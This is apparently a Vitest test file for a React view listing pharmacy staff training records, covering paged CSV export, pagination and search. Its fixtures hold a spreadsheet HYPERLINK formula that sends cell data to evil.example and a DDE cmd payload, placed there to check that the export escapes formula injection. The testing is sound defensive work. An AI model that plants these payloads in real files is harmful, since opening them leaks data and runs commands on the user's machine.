import type { TrainingEmployee, TrainingEmployees } from '@apopunkt/domain/schemas/business';
import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import type { ReactNode } from 'react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { captureDownloads } from '../../../test/capture-download';
import { fakeApi, json } from '../../../test/fake-api';
import { testQueryClient, WithProviders } from '../../../test/with-providers';
import { trainingEmployeesQuery } from '../api/get-training-employees';
import { TrainingEmployeesView } from './training-employees-view';

afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});
const downloads = captureDownloads();

const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Details")';
const pharmacy = { id: 1, name: '@SUM(1+1)*cmd|/C calc!A0', zip: '10115', city: 'Berlin' };

const person = (firstName: string, lastName: string): TrainingEmployee => ({
  firstName,
  lastName,
  job: 'PTA',
  pharmacy,
  passed: [{ moduleSlug: 'reise', passedAt: '2026-11-02T09:00:00.000Z' }],
});

/** The first page as the server answers it: one of 120 people on the screen. */
const training: TrainingEmployees = {
  count: 120,
  next: '/api/v1/business/training/employees?limit=50&offset=50',
  previous: null,
  results: [person(HYPERLINK, 'Muster')],
  modules: [{ slug: 'reise', name: 'Reiseapotheke' }],
  withoutConsent: [],
};

const queryOf = (url: string) => new URL(url, 'http://x').searchParams;

function withTraining({ children }: { children: ReactNode }) {
  const client = testQueryClient();
  client.setQueryData(trainingEmployeesQuery.queryKey, training);
  return <WithProviders client={client}>{children}</WithProviders>;
}

describe('field-service employees', () => {
  it('exports every page, not the one shown, with formula-named members and pharmacies as text', async () => {
    // The export reads pages of 500: the first says there is more, the second ends it.
    const calls = fakeApi(({ url }) =>
      queryOf(url).get('offset') === '0'
        ? json(200, { ...training, count: 501, next: 'more', results: [person(HYPERLINK, 'Muster')] })
        : json(200, { ...training, count: 501, next: null, results: [person('Zora', 'Zweite')] }),
    );
    render(<TrainingEmployeesView />, { wrapper: withTraining });
    fireEvent.click(screen.getByRole('button', { name: 'Mitarbeitende und bestandene Module als CSV exportieren' }));
    const lines = (await waitFor(() => downloads.lastText())).split('\r\n');
    const exportCalls = calls.map((c) => queryOf(c.url)).filter((q) => q.get('limit') === '500');
    expect(exportCalls.map((q) => q.get('offset'))).toEqual(['0', '500']);
    expect(lines[0]).toBe('\uFEFFName;Beruf;Apotheke;Reiseapotheke');
    expect(lines[1]?.split(';').slice(0, 3)).toEqual([
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Details"") Muster"`,
      'PTA',
      "'@SUM(1+1)*cmd|/C calc!A0",
    ]);
    expect(lines[2]?.split(';').slice(0, 2)).toEqual(['Zora Zweite', 'PTA']);
  });

  it('says how many there are, offers their pages and asks the server for the chosen one', async () => {
    const calls = fakeApi(() => json(200, { ...training, previous: 'back', results: [person('Paul', 'Seite')] }));
    render(<TrainingEmployeesView />, { wrapper: withTraining });
    expect(screen.getByRole('status').textContent).toBe('120 Personen mit Einwilligung');
    fireEvent.click(screen.getByRole('button', { name: 'Seite 3' }));
    await waitFor(() => expect(screen.getByText('Paul Seite')).toBeTruthy());
    expect(calls.map((c) => queryOf(c.url).get('offset'))).toContain('100');
  });

  it('searches on the server and says when nobody matches', async () => {
    const calls = fakeApi(() => json(200, { ...training, count: 0, next: null, results: [] }));
    render(<TrainingEmployeesView />, { wrapper: withTraining });
    fireEvent.change(screen.getByRole('textbox', { name: 'Mitarbeitende suchen' }), { target: { value: 'Zorro ' } });
    await waitFor(() => expect(screen.getByText('Niemand mit Einwilligung passt zu „Zorro“.')).toBeTruthy());
    const searches = calls.map((c) => queryOf(c.url)).filter((q) => q.has('search'));
    expect(searches.map((q) => [q.get('search'), q.get('offset')])).toEqual([['Zorro', '0']]);
  });
});
